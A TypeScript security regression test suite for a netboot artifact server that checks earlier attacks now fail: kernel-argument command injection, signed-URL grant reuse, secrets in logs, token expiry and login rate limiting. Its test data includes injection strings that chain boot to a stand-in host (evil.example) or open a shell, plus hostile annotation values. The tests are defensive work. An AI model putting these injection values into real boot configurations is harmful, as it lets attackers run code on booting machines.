/**
 * The hostile probe of issue 18, replayed against the real API and content app: each attack that used to
 * work is tried again and must now fail safely (a 400 at the API, a 403 at the content app, nothing
 * reusable in the logs, no token outliving its creator).
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildNetbootArtifact, makeFile } from '../support/push';
import { ADMIN_PASSWORD, type Stack, startStack } from '../support/stack';
import { header, raw, type RawResponse } from '../content/support/http';
import { Seeder } from '../content/support/seed';

const BASIC = `Basic ${Buffer.from(`admin:${ADMIN_PASSWORD}`).toString('base64')}`;

let stack: Stack;
let seed: Seeder;
let repoA: string;
let repoB: string;
const kernelA = makeFile(8192, 'kernel-of-distribution-a');
const kernelB = makeFile(8192, 'kernel-of-distribution-b');

async function api(
  method: string,
  path: string,
  body?: unknown,
  auth = BASIC,
  headers: Record<string, string> = {},
): Promise<{ status: number; body: any; headers: Headers }> {
  const res = await fetch(`${stack.apiUrl}${path}`, {
    method,
    headers: { Authorization: auth, ...(body === undefined ? {} : { 'Content-Type': 'application/json' }), ...headers },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : null, headers: res.headers };
}

const content = (path: string, headers: Record<string, string> = {}) => raw(stack.contentUrl, path, { headers });

/** The content app learns of API changes through Redis; wait until it answers as expected. */
async function eventually(path: string, status: number, timeoutMs = 5000): Promise<RawResponse> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const res = await content(path);
    if (res.status === status || Date.now() > deadline) return res;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const repoHref = (id: string) => `/pulp/api/v3/repositories/netboot/oci/${id}/`;
const DIST = '/pulp/api/v3/distributions/netboot/oci/';

beforeAll(async () => {
  stack = await startStack({
    worker: false,
    logToFile: true,
    env: { LOG_LEVEL: 'info', TRUSTED_PROXIES: '127.0.0.1/32' },
  });
  seed = await Seeder.open(stack);
  repoA = await seed.repository('repo-a');
  await seed.version(repoA, {
    tags: {
      '40-amd64': buildNetbootArtifact({ files: { vmlinuz: kernelA, 'initrd.img': makeFile(4096, 'ia') } }),
      // Upstream-controlled text that reaches .treeinfo: an architecture the renderer would refuse.
      hostile: buildNetbootArtifact({
        files: { vmlinuz: makeFile(2048, 'hk'), 'initrd.img': makeFile(2048, 'hi') },
        annotations: { 'os.arch': 'x86 64;reboot', 'os.name': 'Evil\nname' },
      }),
    },
  });
  repoB = await seed.repository('repo-b');
  await seed.version(repoB, {
    tags: { '40-amd64': buildNetbootArtifact({ files: { vmlinuz: kernelB, 'initrd.img': makeFile(4096, 'ib') } }) },
  });
}, 120_000);
afterAll(async () => stack?.stop());

describe('1. kernel_args the renderer refuses', () => {
  const attacks = [
    'console=ttyS0 && chain http://evil.example/x',
    'console=ttyS0 || chain http://evil.example/x',
    'console=ttyS0 # rest',
    'console=ttyS0\tquiet',
    'console=ttyS0 ; shell',
    'a > /dev/null',
  ];

  it('are a 400 naming kernel_args on create and update, and the boot scripts keep rendering', async () => {
    const created = await api('POST', DIST, { name: 'boot', base_path: 'boot', repository: repoHref(repoA) });
    expect(created.status).toBe(201);
    const href = created.body.pulp_href as string;
    expect((await api('PATCH', href, { kernel_args: 'console=ttyS0 ip=dhcp' })).status).toBe(200);
    await eventually('/pulp/content/boot/40-amd64/boot.ipxe', 200);

    for (const kernel_args of attacks) {
      const patched = await api('PATCH', href, { kernel_args });
      expect(patched.status, kernel_args).toBe(400);
      expect(Object.keys(patched.body.errors)).toEqual(['kernel_args']);
      const made = await api('POST', DIST, {
        name: 'boot2',
        base_path: 'boot2',
        repository: repoHref(repoA),
        kernel_args,
      });
      expect(made.status, kernel_args).toBe(400);
    }
    for (const script of ['boot.ipxe', 'grub.cfg']) {
      const res = await content(`/pulp/content/boot/40-amd64/${script}`);
      expect(res.status).toBe(200);
      expect(res.body.toString()).toContain('console=ttyS0 ip=dhcp');
      expect(res.body.toString()).not.toContain('evil.example');
    }
  });

  it('upstream text that reaches a generated file (architecture, name annotations) cannot make it 500', async () => {
    await seed.distribution('upstream-text', repoA);
    for (const name of ['.treeinfo', 'boot.ipxe', 'grub.cfg']) {
      const res = await content(`/pulp/content/upstream-text/hostile/${name}`);
      expect(res.status, name).toBe(200);
      expect(res.body.toString()).not.toContain('reboot');
    }
  });
});

describe('2. signed URLs are bound to the distribution, not to its path', () => {
  let hrefA: string;

  async function sign(href: string): Promise<string> {
    const signed = await api('POST', `${href}sign/`, { expires_in: 600 });
    expect(signed.status).toBe(201);
    return signed.body.query as string;
  }

  it('a grant for A does not open B after A moves away and B takes its path', async () => {
    const a = await api('POST', DIST, { name: 'a', base_path: 'priv', repository: repoHref(repoA), private: true });
    hrefA = a.body.pulp_href;
    const grant = await sign(hrefA);
    const res = await eventually(`/pulp/content/priv/40-amd64/vmlinuz?${grant}`, 200);
    expect(res.body.equals(kernelA)).toBe(true);

    expect((await api('PATCH', hrefA, { base_path: 'priv-moved' })).status).toBe(200);
    await api('POST', DIST, { name: 'b', base_path: 'priv', repository: repoHref(repoB), private: true });
    await eventually('/pulp/content/priv-moved/40-amd64/vmlinuz', 401);
    // B at the old path: the old grant is refused (it used to serve B's kernel).
    expect((await eventually(`/pulp/content/priv/40-amd64/vmlinuz?${grant}`, 403)).status).toBe(403);
    // A at its new path: moving ended the grant too.
    expect((await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?${grant}`)).status).toBe(403);
    const fresh = await sign(hrefA);
    expect((await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?${fresh}`)).body.equals(kernelA)).toBe(true);
  });

  it('deleting and re-creating a distribution at the same path ends its grants', async () => {
    const b = (await api('GET', `${DIST}?base_path=priv`)).body.results[0];
    const grant = await sign(b.pulp_href);
    expect((await content(`/pulp/content/priv/40-amd64/vmlinuz?${grant}`)).status).toBe(200);
    expect((await api('DELETE', b.pulp_href)).status).toBe(204);
    await api('POST', DIST, { name: 'b', base_path: 'priv', repository: repoHref(repoB), private: true });
    expect((await eventually(`/pulp/content/priv/40-amd64/vmlinuz?${grant}`, 403)).status).toBe(403);
  });

  it('making a distribution public and private again ends its grants', async () => {
    const grant = await sign(hrefA);
    expect((await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?${grant}`)).status).toBe(200);
    await api('PATCH', hrefA, { private: false });
    await eventually('/pulp/content/priv-moved/40-amd64/vmlinuz', 200);
    await api('PATCH', hrefA, { private: true });
    expect((await eventually(`/pulp/content/priv-moved/40-amd64/vmlinuz?${grant}`, 403)).status).toBe(403);
  });

  it('revoke_grants ends every grant of one distribution, and only of that one', async () => {
    const b = (await api('GET', `${DIST}?base_path=priv`)).body.results[0];
    const grantA = await sign(hrefA);
    const grantB = await sign(b.pulp_href);
    const bootScript = await content(`/pulp/content/priv-moved/40-amd64/boot.ipxe?${grantA}`);
    const chained = /kernel (\S+)/.exec(bootScript.body.toString())![1]!;
    const chainedPath = new URL(chained).pathname + new URL(chained).search;
    expect((await content(chainedPath)).status).toBe(200);

    expect((await api('POST', `${hrefA}revoke_grants/`)).status).toBe(204);
    expect((await eventually(`/pulp/content/priv-moved/40-amd64/vmlinuz?${grantA}`, 403)).status).toBe(403);
    expect((await content(chainedPath)).status).toBe(403); // the `?grant=` form boot scripts chain, too
    expect((await content(`/pulp/content/priv/40-amd64/vmlinuz?${grantB}`)).status).toBe(200);
    const after = await sign(hrefA);
    expect((await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?${after}`)).status).toBe(200);
  });

  it('refuses a non-canonical expires (leading zeros) in both grant forms', async () => {
    const query = new URLSearchParams(await sign(hrefA));
    const expires = query.get('expires')!;
    const signature = query.get('signature')!;
    expect(
      (await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?expires=${expires}&signature=${signature}`)).status,
    ).toBe(200);
    for (const padded of [`0${expires}`, `00${expires}`]) {
      expect(
        (await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?expires=${padded}&signature=${signature}`)).status,
      ).toBe(403);
      expect((await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?grant=${padded}.${signature}`)).status).toBe(
        403,
      );
    }
  });
});

describe('3. grants and credentials in logs', () => {
  it('no log line holds a grant, a signature or an Authorization value', async () => {
    const signed = await api(
      'POST',
      `${(await api('GET', `${DIST}?base_path=priv-moved`)).body.results[0].pulp_href}sign/`,
      {},
    );
    const signature = new URLSearchParams(signed.body.query).get('signature')!;
    const expires = new URLSearchParams(signed.body.query).get('expires')!;
    await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?${signed.body.query}`);
    await content(`/pulp/content/priv-moved/40-amd64/vmlinuz?grant=${expires}.${signature}`);
    await api('GET', `/pulp/api/v3/status/?token=${signature}&access_token=${signature}`);
    await new Promise((resolve) => setTimeout(resolve, 200));
    const logs = readFileSync(stack.prepared.config.logFile!, 'utf8');
    expect(logs).toContain('"msg":"access"');
    expect(logs).toMatch(/"url":"\/pulp\/content\/priv-moved\/40-amd64\/vmlinuz\?expires=\d+&signature=REDACTED"/);
    expect(logs).toContain('vmlinuz?grant=REDACTED');
    expect(logs).toContain('token=REDACTED&access_token=REDACTED');
    expect(logs).not.toContain(signature);
    expect(logs).not.toContain(ADMIN_PASSWORD);
    expect(logs).not.toContain(BASIC.slice(6));
  });
});

describe('5. a token cannot mint a token that outlives it', () => {
  it('bounds expires_at by the creating token, and refuses a later one', async () => {
    const soon = new Date(Date.now() + 60_000);
    const parent = await api('POST', '/pulp/api/v3/tokens/', { name: 'short', expires_at: soon.toISOString() });
    expect(parent.status).toBe(201);
    const bearer = `Bearer ${parent.body.token}`;

    const child = await api('POST', '/pulp/api/v3/tokens/', { name: 'x' }, bearer);
    expect(child.status).toBe(201);
    expect(child.body.expires_at).toBe(parent.body.expires_at);
    const nulled = await api('POST', '/pulp/api/v3/tokens/', { name: 'y', expires_at: null }, bearer);
    expect(nulled.body.expires_at).toBe(parent.body.expires_at);
    const later = await api(
      'POST',
      '/pulp/api/v3/tokens/',
      { name: 'z', expires_at: new Date(Date.now() + 86_400_000).toISOString() },
      bearer,
    );
    expect(later.status).toBe(400);
    expect(Object.keys(later.body.errors)).toEqual(['expires_at']);
    const earlier = await api(
      'POST',
      '/pulp/api/v3/tokens/',
      { name: 'w', expires_at: new Date(Date.now() + 30_000).toISOString() },
      bearer,
    );
    expect(earlier.status).toBe(201);
    // The rule is about the creator's expiry: the admin's password (or a token without one) is unbounded.
    const permanent = await api('POST', '/pulp/api/v3/tokens/', { name: 'forever' });
    expect(permanent.body.expires_at).toBeNull();
    const fromPermanent = await api('POST', '/pulp/api/v3/tokens/', { name: 'v' }, `Bearer ${permanent.body.token}`);
    expect(fromPermanent.body.expires_at).toBeNull();
  });
});

describe('failed-login limiter', () => {
  it('locks the guesser behind a trusted proxy, not every client of that proxy, and never a working password', async () => {
    const wrong = `Basic ${Buffer.from('admin:not-the-password').toString('base64')}`;
    const via = (client: string) => ({ 'X-Forwarded-For': client });
    for (let i = 0; i < 10; i++) {
      expect(
        (await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, wrong, via('198.51.100.66'))).status,
      ).toBe(401);
    }
    const locked = await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, wrong, via('198.51.100.66'));
    expect(locked.status).toBe(429);
    expect(locked.headers.get('retry-after')).toMatch(/^\d+$/);
    // Another client of the same proxy still gets an honest answer, and the admin's password works for both.
    expect((await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, wrong, via('198.51.100.77'))).status).toBe(
      401,
    );
    expect((await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, BASIC, via('198.51.100.77'))).status).toBe(
      200,
    );
    expect((await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, BASIC, via('198.51.100.66'))).status).toBe(
      200,
    );
    // Other user names from the guesser's address are not locked by failures against admin.
    const other = `Basic ${Buffer.from('operator:x').toString('base64')}`;
    expect((await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, other, via('198.51.100.66'))).status).toBe(
      401,
    );
  });
});

describe('failed-login limiter and API tokens', () => {
  it('slows a flood of bad tokens but never refuses a valid one', async () => {
    const token = (await api('POST', '/pulp/api/v3/tokens/', { name: 'limiter-check' })).body.token as string;
    const via = { 'X-Forwarded-For': '198.51.100.88' };
    const bad = 'Bearer bd_' + 'x'.repeat(40);
    for (let i = 0; i < 10; i++) {
      expect((await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, bad, via)).status).toBe(401);
    }
    expect((await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, bad, via)).status).toBe(429);
    expect((await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, `Bearer ${token}`, via)).status).toBe(200);
  });
});

describe('X-Content-Type-Options', () => {
  it('is nosniff on API answers, errors, files, boot scripts and listings', async () => {
    for (const res of [
      await api('GET', '/pulp/api/v3/status/'),
      await api('GET', '/pulp/api/v3/nothing-here/'),
      await api('GET', '/pulp/api/v3/remotes/netboot/oci/', undefined, 'Bearer nope'),
    ]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
    for (const path of [
      '/pulp/content/boot/40-amd64/vmlinuz',
      '/pulp/content/boot/40-amd64/boot.ipxe',
      '/pulp/content/',
      '/pulp/content/nothing-here/',
      '/v2/',
    ]) {
      expect(header(await content(path), 'x-content-type-options'), path).toBe('nosniff');
    }
  });
});
